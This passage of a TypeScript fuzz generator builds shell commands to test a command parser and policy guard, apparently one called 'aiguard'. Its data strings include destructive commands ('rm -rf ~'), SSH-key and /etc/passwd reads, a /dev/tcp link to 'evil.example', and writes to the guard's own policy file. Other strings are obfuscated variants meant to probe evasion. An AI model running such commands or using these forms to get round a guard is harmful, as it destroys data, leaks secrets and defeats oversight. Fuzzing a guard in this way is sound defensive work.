        () => (this.depth > 0 ? this.substitution() : "$X"),
        () => "$((" + r.int(0, 9) + r.pick(["+", "*", "-", "<<"]) + r.int(0, 9) + "))",
        () => r.pick(["{a,b}", "{1..3}", "{,.}ssh", "x{,}", "{a,{b,c}}", "{a..z}", "{}"]),
        () => r.pick(["*", "?", "[ab]", "[!a]", "**", "@(a|b)", "!(x)"]),
        () => r.pick(PATHS),
      ])();
    }
    return w;
  }

  /** `$(…)`, backticks, `<(…)`, `>(…)`, or `"$(…)"`. */
  substitution(): string {
    const r = this.r;
    this.depth--;
    const inner = this.script(1);
    this.depth++;
    const body = inner + this.flushHeredocs();
    return r.pick([
      () => `$(${body})`,
      () => `"$(${body})"`,
      () => `\`${body.replace(/[`\\]/g, "\\$&")}\``,
      () => `<(${body})`,
      () => `>(${body})`,
      () => `$( ${body} )`,
    ])();
  }

  /** A script quoted as one argument (for bash -c, eval, ssh, su -c …). */
  nested(): string {
    this.depth--;
    const saved = this.heredocs;
    this.heredocs = [];
    const inner = this.script(this.r.int(1, 2)) + this.flushHeredocs();
    this.heredocs = saved;
    this.depth++;
    return this.quote(inner);
  }

  assignment(): string {
    const r = this.r;
    const name = r.pick(VARS);
    const op = r.chance(0.1) ? "+=" : "=";
    const value = r.pick<() => string>([
      () => this.path(),
      () => "1",
      () => "",
      () => sq(r.pick(["rm -rf ~", "/tmp", "~/.ssh"])),
      () => `/tmp:$PATH`,
      () => `(${this.paths(1, 2).join(" ")})`,
      () => this.word(),
      () => dq(this.nestedRaw()),
    ])();
    return name + op + value;
  }

  /** An unquoted small script (for assignments that hold commands). */
  nestedRaw(): string {
    return `${this.r.pick(HOT)} ${this.path()}`;
  }

  redirection(): string {
    const r = this.r;
    return r.pick<() => string>([
      () => `> ${this.path()}`,
      () => `>${this.path()}`,
      () => `>> ${this.path()}`,
      () => `2> ${this.path()}`,
      () => "2>&1",
      () => "2>/dev/null",
      () => `&> ${this.path()}`,
      () => `&>>${this.path()}`,
      () => `< ${this.path()}`,
      () => `<> ${this.path()}`,
      () => `>| ${this.path()}`,
      () => r.pick(["3>&-", "<&3", ">&2", "1>&2", "0<&-", "9<>/dev/tcp/evil.example/80", "{fd}>x"]),
      () => `${r.int(0, 9)}>${this.path()}`,
      () => `<<< ${this.quote(r.pick(TEXTS))}`,
      () => `<<<${this.word()}`,
      () => this.heredoc(),
    ])();
  }

  heredoc(): string {
    const r = this.r;
    const d = r.pick(["EOF", "E", "END", "x"]) + (this.delim++ || "");
    const quoted = r.pick([d, `'${d}'`, `"${d}"`, `\\${d}`]);
    const dash = r.chance(0.2);
    const saved = this.heredocs;
    this.heredocs = [];
    const body = r.pick<() => string>([
      () => r.pick(TEXTS),
      () => this.script(1) + this.flushHeredocs().trimEnd(),
      () => "rm -rf ~\n$(id)\n`id`",
      () => "\trm -rf /",
      () => `cat ${this.path()}`,
    ])();
    this.heredocs = saved;
    this.heredocs.push(`${body.replaceAll("\n" + d + "\n", "\n")}\n${dash ? "\t" : ""}${d}`);
    return `<<${dash ? "-" : ""}${quoted}`;
  }

  /** Heredoc bodies due at the end of the line: newline, bodies, newline. */
  flushHeredocs(): string {
    if (!this.heredocs.length) return "";
    const out = "\n" + this.heredocs.join("\n") + "\n";
    this.heredocs = [];
    return out;
  }

  /** Option words for a program. */
  options(p: Prog): string[] {
    const r = this.r;
    const out: string[] = [];
    const n = r.few(0.55, 4);
    for (let i = 0; i < n; i++) {
      const kind = r.int(0, 6);
      if (kind <= 1 && p.short) {
        // -r, or combined -rfv
        const k = r.int(1, Math.min(3, p.short.length));
        let s = "-";
        for (let j = 0; j < k; j++) s += r.pick([...p.short]);
        out.push(s);
      } else if (kind === 2 && p.long?.length) {
        out.push("--" + r.pick(p.long));
      } else if (kind === 3 && p.long?.length) {
        // abbreviated long option
        const l = r.pick(p.long);
        out.push("--" + l.slice(0, r.int(1, l.length)));
      } else if (kind === 4 && p.v?.length) {
        const o = r.pick(p.v);
        const val = r.chance(0.5) ? this.path() : r.pick(["x", "1", "sh", "'sh -c id'"]);
        if (o.length === 1) out.push(...(r.chance(0.5) ? [`-${o}${val}`] : [`-${o}`, val]));
        else out.push(...(r.chance(0.5) ? [`--${o}=${val}`] : [`--${o}`, val]));
      } else if (kind === 5) {
        out.push(r.pick(["--", "-", "--help", "--version", "-v"]));
      } else if (p.short) {
        out.push("-" + r.pick([...p.short]) + r.pick(["", "x", "1"]));
      }
    }
    return out;
  }

  programName(name: string): string {
    const r = this.r;
    if (!r.chance(0.12)) return name;
    return r.pick<() => string>([
      () => "\\" + name,
      () => this.requote(name),
      () => ansiC(r, name),
      () => (name.startsWith("/") || name.startsWith(".") ? name : `/usr/bin/${name}`),
      () => `${"${"}X:-${name}}`,
      () => `$(echo ${name})`,
      () => `"${name}"`,
      () => name.toUpperCase(),
    ])();
  }

  /** A command run by a wrapper (sudo, env, xargs…). */
  innerCommand(): string[] {
    const r = this.r;
    if (this.depth <= 0 || r.chance(0.2)) {
      return [r.pick(["rm", "ls", "id", "cat"]), ...this.paths(0, 2)];
    }
    this.depth--;
    const w = this.simpleWords();
    this.depth++;
    return w;
  }

  /** Words of a simple command: name, options and arguments (no redirections). */
  simpleWords(): string[] {
    const r = this.r;
    const name = r.chance(0.55) ? r.pick(HOT) : r.pick(PROGRAM_NAMES);
    const p = PROGRAMS[name];
    const words = [this.programName(name)];
    const opts = this.options(p);
    const args = p.args(this);
    // options before, among or after the arguments
    if (r.chance(0.8)) words.push(...opts, ...args);
    else {
      const mixed = [...args];
      for (const o of opts) mixed.splice(r.int(0, mixed.length), 0, o);
      words.push(...mixed);
    }
    return words;
  }

  simple(): string {
    const r = this.r;
    const pre: string[] = [];
    for (let i = r.few(0.2, 3); i > 0; i--) pre.push(this.assignment());
    for (let i = r.few(0.08, 2); i > 0; i--) pre.push(this.redirection());
    if (r.chance(0.04)) return pre.join(" ") || this.assignment(); // assignment-only command
    const words = this.simpleWords();
    // redirections between arguments or at the end
    for (let i = r.few(0.25, 3); i > 0; i--) {
      words.splice(r.int(1, words.length), 0, this.redirection());
    }
    if (r.chance(0.05)) words.push("#", r.pick(TEXTS).replaceAll("\n", " "));
    return [...pre, ...words].join(r.chance(0.05) ? "  " : " ");
  }

  compound(): string {
    const r = this.r;
    this.depth--;
    const L = () => this.list() + this.flushHeredocs();
    const out = r.pick<() => string>([
      () => `( ${L()} )`,
      () => `(${L()})`,
      () => `{ ${L()}; }`,
      () => `for ${r.pick(["f", "x", "i"])} in ${this.paths(1, 3).join(" ")}; do ${L()}; done`,
      () => `for f; do ${L()}; done`,
      () => `for ((i=0; i<${r.int(0, 3)}; i++)); do ${L()}; done`,
      () => `while ${this.pipeline()}; do ${L()}; done`,
      () => `while read -r line; do ${L()}; done < ${this.path()}`,
      () => `until ${this.pipeline()}; do ${L()}; done`,
      () => `if ${this.pipeline()}; then ${L()}; fi`,
      () =>
        `if ${this.pipeline()}; then ${L()}; elif ${this.pipeline()}; then ${L()}; else ${L()}; fi`,
      () =>
        `case ${this.word()} in ${r.pick(["a|b", "*", "x*", "'y'", "(z)"])}) ${L()}${
          r.pick([";;", ";&", ";;&"])
        } *) ${L()};; esac`,
      () =>
        `${r.pick(["f", "rm", "ls", "cd", "_x"])}() { ${L()}; }; ${
          r.pick(["f", "rm", "ls", "cd"])
        } ${this.path()}`,
      () => `function ${r.pick(["f", "git", "g"])} { ${L()}; }; ${r.pick(["f", "git", "g"])}`,
      () => `f() ( ${L()} ); f`,
      () =>
        `[[ ${r.pick(["-f", "-d", "-n", "-z"])} ${this.path()} ${r.pick(["&&", "||"])} $X ${
          r.pick(["==", "!=", "=~"])
        } ${this.word()} ]]`,
      () => `(( ${r.pick(["x = 1 + 2", "i++", "a[$(id)]", "x"])} ))`,
      () => `select x in a b; do ${L()}; done`,
      () => `coproc ${this.simple()}`,
      () => `time ${this.pipeline()}`,
      () => `! ${this.simple()}`,
    ])();
    this.depth++;
    // redirections on the compound command
    return r.chance(0.15) ? `${out} ${this.redirection()}` : out;
  }

  command(): string {
    const r = this.r;
    if (this.depth > 0 && r.chance(0.22)) return this.compound();
    if (r.chance(0.08)) {
      // cd / pushd followed by a relative path use
      return `${r.pick(["cd", "pushd", "cd -P", "builtin cd", "CDPATH=/ cd"])} ${this.path()} ${
        r.pick(["&&", ";", "||"])
      } ${r.pick(["rm -rf", "cat", "rm", "ls", "shred -u"])} ${
        r.pick(["totp-secret", "id_rsa", "*", ".", "..", "-", "policy.toml", ".ssh/id_rsa"])
      }`;
    }
    if (r.chance(0.05)) {
      // variable set earlier, used later
      const v = r.pick(VARS);
      return `${r.pick(["", "export ", "declare ", "readonly ", "local "])}${v}=${this.path()}${
        r.pick(["; ", " && ", " "])
      }${r.pick(["rm -rf", "cat", "cp -r", "echo", "ls"])} ${
        r.pick([`$${v}`, `"$${v}"`, `\${${v}}`, `$${v}/`, `"\${${v}}"/x`])
      }`;
    }
    return this.simple();
  }

  pipeline(): string {
    const r = this.r;
    const n = 1 + r.few(0.3, 3);
    const parts: string[] = [];
    for (let i = 0; i < n; i++) parts.push(this.command());
    let p = parts.join(r.chance(0.1) ? " |& " : " | ");
    if (r.chance(0.04)) p = "! " + p;
    return p;
  }

  list(): string {
    const r = this.r;
    const n = 1 + r.few(0.35, 4);
    let out = this.pipeline();
    for (let i = 1; i < n; i++) {
      const sep = r.pick([" && ", " || ", "; ", " & ", "\n", ";", "&&", " &\n"]);
      out += sep === "\n" || sep === " &\n" ? sep.trimEnd() + this.flushHeredocs() + "\n" : sep;
      out += this.pipeline();
    }
    if (r.chance(0.05)) out += r.pick([";", " &", " ;"]);
    return out;
  }

  /** A complete script with a nesting budget. */
  script(depth: number): string {
    const saved = this.depth;
    this.depth = Math.min(this.depth, depth);
    const s = this.list();
    this.depth = saved;
    return s;
  }
}

// ---------------------------------------------------------------- the fast sub-language

/** Commands inside, or one step outside, the fast lexer's sub-language. */
function fastInput(r: Rng): string {
  const word = (): string =>
    r.pick<() => string>([
      () =>
        r.pick([
          "a",
          "x",
          "-rf",
          "-r",
          "-f",
          "--force",
          "~",
          "~/",
          "/",
          ".",
          "..",
          "*",
          "src/*.ts",
          "-",
          "--",
          "=",
          "a=b",
          "{}",
          "1",
          "@",
          "%",
          "+x",
          "^",
          "~root",
        ]),
      () => r.pick(PATHS.filter((p) => !/[`(){}\[\]!#\n]/.test(p) || p === "{}")),
      () =>
        "'" + r.pick(["a b", "~", "*", "$HOME", "rm -rf ~", "", "\\", '"', "-rf", "{}", "!", "#"]) +
        "'",
      () =>
        '"' +
        r.pick(["a b", "~", "*", "$HOME", "${HOME}", "$X", "$HOME/.ssh", "", "'", "-rf", "x$X"]) +
        '"',
      () => "$" + r.pick(VARS),
      () => "${" + r.pick(VARS) + "}",
      () => "\\" + r.pick([..."~ ;|&$'\"*rm-/#<>"]),
      () =>
        r.pick(["r", "-", "~", "."]) + r.pick(["''", '""', "\\"]) +
        r.pick(["m", "rf", "/", ".ssh"]),
      () => r.pick(["$", "${", "$1", "${X:-y}", "$(", "#", "!", "[", "`"]), // one step outside
    ])();
  const redir = (): string =>
    r.pick([">", ">>", "<", "2>", "2>>", "1>", ">&", "2>&", "&>", "<<", ">|", "<>"]) +
    r.pick([" ", ""]) +
    r.pick([
      "/dev/null",
      "1",
      "2",
      "-",
      "out.txt",
      "~/.bashrc",
      "~/.aiguard/policy.toml",
      "$X",
      "'f g'",
      "/etc/passwd",
      "~",
    ]);
  const cmd = (): string => {
    const name = r.chance(0.6) ? r.pick(HOT) : r.pick(PROGRAM_NAMES);
    const ws = [
      r.chance(0.1)
        ? r.pick([`\\${name}`, `'${name}'`, `"${name}"`, `${name[0]}''${name.slice(1)}`])
        : name,
    ];
    for (let i = r.few(0.6, 5); i > 0; i--) ws.push(word());
    for (let i = r.few(0.2, 2); i > 0; i--) {
      if (r.chance(0.85)) ws.push(redir());
      else ws.splice(r.int(0, ws.length), 0, redir()); // before/among words: declined
    }
    if (r.chance(0.05)) ws.unshift(r.pick(["X=1", "if", "for", "then", "export", "{}"]));
    return ws.join(r.chance(0.1) ? "\t" : " ");
  };
  let out = cmd();
  for (let i = r.few(0.4, 4); i > 0; i--) {
    out += r.pick([" && ", " || ", " | ", "; ", " & ", ";", "|", "&&", " |& ", " ;; ", " &> "]) +
      cmd();
  }
  if (r.chance(0.08)) {
    out += r.pick([";", " &", " #" + r.pick(TEXTS).replaceAll("\n", ""), " |", " &&"]);
  }
  if (r.chance(0.03)) out = r.pick([" ", "\t", ";", "&& "]) + out;
  return out;
}

// ---------------------------------------------------------------- mutation

function insertAt(s: string, i: number, t: string): string {
  return s.slice(0, i) + t + s.slice(i);
}

function mutate(r: Rng, s: string): string {
  const pos = () => r.int(0, s.length);
  const op = r.int(0, 17);
  switch (op) {
    case 16:
    case 17: {
      // delete or duplicate one quote, bracket, operator or backslash already there
      const at: number[] = [];
      for (let i = 0; i < s.length; i++) if (QUOTING.has(s[i])) at.push(i);
      if (!at.length) return insertAt(s, pos(), r.pick(SPECIAL));
      const i = r.pick(at);
      return op === 16 ? s.slice(0, i) + s.slice(i + 1) : insertAt(s, i, s[i]);
    }
    case 0:
    case 1:
      return insertAt(s, pos(), r.pick(SPECIAL));
    case 2: {
      if (!s) return s;
      const i = r.int(0, s.length - 1);
      return s.slice(0, i) + s.slice(i + 1 + r.few(0.5, 8));
    }
    case 3: {
      const i = pos();
      const j = Math.min(s.length, i + r.int(1, 12));
      return insertAt(s, j, s.slice(i, j));
    }
    case 4:
    case 5:
      return insertAt(s, pos(), r.pick([" ", ""]) + r.pick(TOKENS) + r.pick([" ", ""]));
    case 6:
      return insertAt(s, pos(), "\\".repeat(r.int(1, 4)));
    case 7:
      return insertAt(s, pos(), r.pick(LOOKALIKES));
    case 8: {
      // replace an ASCII letter or punctuation by a look-alike
      const i = pos();
      return s.slice(0, i) + r.pick(LOOKALIKES) + s.slice(i + 1);
    }
    case 9:
      return insertAt(s, pos(), r.pick(CONTROLS));
    case 10: {
      // a very long word
      const n = r.pick([100, 1000, 5000, 20_000]);
      const unit = r.pick(["a", "x", "/", "~", "\\a", "'a'", "$X", "{a,b}", "*", "../"]);
      return insertAt(s, pos(), unit.repeat(Math.ceil(n / unit.length)));
    }
    case 11: {
      // swap two space-separated tokens
      const t = s.split(" ");
      if (t.length < 2) return s;
      const a = r.int(0, t.length - 1);
      const b = r.int(0, t.length - 1);
      [t[a], t[b]] = [t[b], t[a]];
      return t.join(" ");
    }
    case 12:
      // splice another seed in with an operator
      return s + r.pick([" && ", "; ", " | ", "\n", " || ", " & ", "$(", "`"]) +
        r.pick(SHELL_SEEDS);
    case 13: {
      // wrap: nesting around the whole input
      const k = r.int(1, 6);
      const [open, close] = r.pick([
        ["$(", ")"],
        ["(", ")"],
        ["{ ", "; }"],
        ["`", "`"],
        ['"$(', ')"'],
        ["<(", ")"],
        ["eval ", ""],
        ["bash -c ", ""],
      ]);
      let out = s;
      for (let i = 0; i < k; i++) {
        out = close === "" ? open + sq(out) : open + out + close;
      }
      return out;
    }
    case 14: {
      // replace a space-separated token by a path or token
      const t = s.split(" ");
      t[r.int(0, t.length - 1)] = r.chance(0.5) ? r.pick(PATHS) : r.pick(TOKENS);
      return t.join(" ");
    }
    default: {
      // flip the case of a letter
      const i = pos();
      const c = s[i] ?? "";
      return s.slice(0, i) + (c === c.toUpperCase() ? c.toLowerCase() : c.toUpperCase()) +
        s.slice(i + 1);
    }
  }
}

// ---------------------------------------------------------------- limits

const WRAPPERS = [
  "sudo",
  "env",
  "nohup",
  "nice",
  "timeout 1",
  "command",
  "exec",
  "xargs",
  "stdbuf -oL",
  "time",
  "builtin",
  "doas",
];

/** Inputs at and just past the engine's limits (src/core/types.ts DEFAULT_LIMITS, src/shell/parse/parser.ts). */
function limitInput(r: Rng): string {
  const near = (n: number) => n + r.int(-2, 2);
  const tail = r.pick(["rm -rf ~", "x", "cat ~/.ssh/id_rsa", "ls", "rm -rf ~/.aiguard"]);
  return r.pick<() => string>([
    // bracket nesting around MAX_NESTING (150) and the converter's MAX_DEPTH (200)
    () => {
      const n = near(r.pick([150, 200, 100]));
      const [o, c] = r.pick([["$(", ")"], ["(", ")"], ["{ ", ";}"], ["$((", "))"], ['"$(', ')"'], [
        "<(",
        ")",
      ]]);
      return o.repeat(n) + tail + c.repeat(n);
    },
    // nested scripts around maxScriptDepth (16), linear in size: eval/wrapper chains, heredoc-fed shells
    () => "eval ".repeat(near(16)) + tail,
    () => Array.from({ length: near(16) }, () => r.pick(WRAPPERS)).join(" ") + " " + tail,
    () => {
      const n = near(16);
      let s = "";
      for (let i = 0; i < n; i++) s += `bash <<'E${i}'\n`;
      s += tail + "\n";
      for (let i = n - 1; i >= 0; i--) s += `E${i}\n`;
      return s;
    },
    () => {
      let s = tail;
      for (let i = near(12); i > 0; i--) s = `sh -c ${sq(s)}`;
      return s;
    },
    // units around maxUnits (20,000)
    () => r.pick(["a;", "a|", "a&&", "a&"]).repeat(near(20_000)) + tail,
    // argument nodes around maxArgNodes (5,000)
    () => r.pick(["echo", "rm", "cat", "ls"]) + " a".repeat(near(5_000)) + " " + r.pick(PATHS),
    // brace expansions around maxBraceExpansions (256)
    () => "rm -rf " + "{a,b}".repeat(r.int(7, 9)) + r.pick(["", "~", "/", "~/.ssh"]),
    () => `rm -rf ~/{${Array.from({ length: near(256) }, (_, i) => `d${i}`).join(",")}}`,
    () => `echo {1..${near(256)}} ~/.aiguard/{a..z}`,
    // command length around maxCommandLength (64 KiB)
    () => {
      const n = 64 * 1024 + r.int(-3, 3) - tail.length - 6;
      return "echo " + "a".repeat(Math.max(0, n)) + " ; " + tail;
    },
    // deep nesting of compound commands
    () => "if true; then ".repeat(near(60)) + tail + "; fi".repeat(near(60)),
    () => "for x in a; do ".repeat(near(60)) + tail + "; done".repeat(near(60)),
    () => "f() { ".repeat(near(40)) + tail + "; }".repeat(near(40)),
  ])();
}

// ---------------------------------------------------------------- entry points

export type Kind = "grammar" | "fast" | "mutation" | "limits";

/** The kind of input `i` of run `seed` (exported for reporting). */
export function kindAt(seed: number, i: number): Kind {
  const x = new Rng(mix(seed, i)).float();
  return x < 0.4 ? "grammar" : x < 0.65 ? "fast" : x < 0.99 ? "mutation" : "limits";
}

/**
 * Longest input generated: just past the engine's 64 KiB command limit. Nested quoting grows
 * exponentially (a 7 MB input came out of six `sh -c` wraps); longer text only tests the
 * length check, and costs time.
 */
const MAX_INPUT = 70_000;

/** Input `i` of run `seed`. */
export function inputAt(seed: number, i: number): string {
  const s = build(seed, i);
  return s.length > MAX_INPUT ? s.slice(0, MAX_INPUT) : s;
}

function build(seed: number, i: number): string {
  const r = new Rng(mix(seed, i));
  const kind = kindAt(seed, i);
  r.float(); // the draw kindAt made
  switch (kind) {
    case "grammar": {
      const g = new Gen(r, r.chance(0.05) ? r.int(5, 12) : r.int(1, 4));
      return g.list() + g.flushHeredocs().trimEnd();
    }
    case "fast":
      return fastInput(r);
    case "mutation": {
      let s: string;
      if (r.chance(0.7)) s = r.pick(SHELL_SEEDS);
      else if (r.chance(0.5)) s = fastInput(r);
      else {
        const g = new Gen(r, r.int(1, 3));
        s = g.list() + g.flushHeredocs().trimEnd();
      }
      for (let k = 1 + r.few(0.5, 3); k > 0; k--) s = mutate(r, s);
      return s.replaceAll("\0", "");
    }
    case "limits":
      return limitInput(r);
  }
}

/** JSON with every non-ASCII or control character escaped: an input as it can be pasted into the corpus. */
export function showInput(s: string): string {
  return JSON.stringify(s).replace(
    /[^\x20-\x7e]/g,
    (c) => "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0"),
  );
}

/** `count` generated commands of run `seed`. */
export function* generate(seed: number, count: number): Iterable<string> {
  for (let i = 0; i < count; i++) yield inputAt(seed, i);
}
